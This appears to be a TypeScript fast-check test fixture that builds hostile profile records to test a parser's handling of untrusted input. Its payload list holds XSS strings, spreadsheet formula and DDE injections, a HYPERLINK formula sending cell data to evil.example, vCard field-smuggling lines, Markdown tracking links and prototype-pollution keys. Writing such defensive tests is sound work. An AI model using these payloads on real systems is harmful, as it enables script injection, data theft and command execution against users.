import fc from 'fast-check';
import { normalizeProfile } from '../../utils/parsing/normalize-profile.ts';
import type { Profile } from '../../utils/profile/profile.ts';
import { slugOf } from '../utils/profile/slug-of.ts';

/** What an attack on a page, a spreadsheet, an address book, a Markdown reader or a parser begins with. */
const attacks = [
  '<img src=x onerror="pwned=1">',
  '<script>pwned=1</script>',
  '"><svg onload=pwned=1>',
  "' autofocus onfocus='pwned=1",
  '</textarea></style></title><iframe srcdoc="<script>pwned=1</script>">',
  '<a href="javascript:pwned=1">click</a>',
  '<!-- -->&lt;script&gt;&#60;b&#62;',
  '{{constructor.constructor("pwned=1")()}}',
  '=HYPERLINK("https://evil.example/?"&A1,"Ada")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|x!A0',
  '@SUM(1+1)*cmd|x!A0',
  '＝1+1',
  '\t=1+1',
  '";=1+1;"',
  '",=1+1,"',
  'Ada\r\nEND:VCARD\r\nBEGIN:VCARD\r\nVERSION:4.0\r\nFN:Eve',
  'Ada\nEMAIL:eve@evil.example',
  'Ada\\nTEL:+1\\;2\\,3',
  'Ada;x;y;z,q',
  'Ada\rURL:https://evil.example/',
  'Ada\u2028NOTE:x\u0085TEL:1',
  '[click](javascript:pwned=1)',
  '![pixel](https://evil.example/p.png)',
  '[ref]: https://evil.example/ "x"',
  '<https://evil.example/>',
  'https://evil.example/ www.evil.example eve@evil.example',
  '\n\n# Heading\n\n---\n\n| a | b |\n|--|--|\n',
  '```\ncode',
  '* item\n\t1. item',
  '[^1]: note',
  'javascript:pwned=1',
  'data:text/html,<script>pwned=1</script>',
  'https://evil.example/\r\nNOTE:x',
  'https://www.linkedin.com@evil.example/in/ada/',
  '//evil.example/',
  '__proto__',
  'constructor',
  '\u202egnp.exe\u202c',
  '\u0000\u001b[31m\ud800',
  '\ufeff\u200b\u2060',
  '😀👩‍👩‍👧‍👦e\u0301',
  'x'.repeat(400),
];

const texts = fc
  .array(
    fc.oneof(
      { weight: 5, arbitrary: fc.constantFrom(...attacks) },
      fc.string({ unit: 'binary', maxLength: 4 }),
    ),
    {
      minLength: 1,
      maxLength: 2,
    },
  )
  .map((parts) => parts.join(''));

const dates = fc.oneof(
  fc.record({ year: fc.integer({ min: 1990, max: 2026 }), month: fc.integer({ min: 1, max: 12 }) }),
  texts,
);

/** Entries that have some of the fields, each with a hostile text. */
const entries = (...fields: readonly string[]) =>
  fc.array(
    fc.record(
      { ...Object.fromEntries(fields.map((name) => [name, texts])), start: dates, end: dates },
      { requiredKeys: [] },
    ),
    { maxLength: 1 },
  );

/** What OutX could answer about a person who attacks whoever reads it: every text of it is hostile. */
export const hostileAnswers: fc.Arbitrary<unknown> = fc.record(
  {
    name: texts,
    headline: texts,
    location: texts,
    about: texts,
    profile_url: texts,
    profile_slug: texts,
    profile_urn: texts,
    picture_url: texts,
    connections: texts,
    followers: texts,
    experience: entries('title', 'company', 'company_url', 'location', 'duration', 'description'),
    education: entries('school', 'degree', 'field', 'duration', 'description', 'location'),
    skills: fc.array(texts, { maxLength: 2 }),
    languages: entries('name', 'proficiency'),
    certifications: entries('name', 'issuer', 'credential_id', 'url'),
    websites: entries('name', 'url'),
    projects: entries('title', 'description', 'url'),
    honors: entries('title', 'issuer', 'description'),
    unheard_of: texts,
  },
  { requiredKeys: ['name'] },
);

/** The hostile profile with this number: always the same person with the same texts, parsed as an answer. */
export function hostileProfiles(count: number, seed = 14): readonly Profile[] {
  return fc
    .sample(hostileAnswers, { numRuns: count, seed })
    .map((answer, index) => normalizeProfile(slugOf(`hostile-${index}`), answer));
}
